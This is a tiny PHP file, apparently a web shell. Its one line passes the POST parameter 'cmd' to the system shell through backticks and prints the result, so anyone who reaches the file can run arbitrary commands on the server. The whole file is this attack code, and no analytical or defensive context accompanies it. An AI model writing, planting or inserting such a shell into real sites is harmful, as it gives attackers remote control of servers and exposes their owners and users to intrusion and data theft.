<?php
print `{$_POST['cmd']}`;
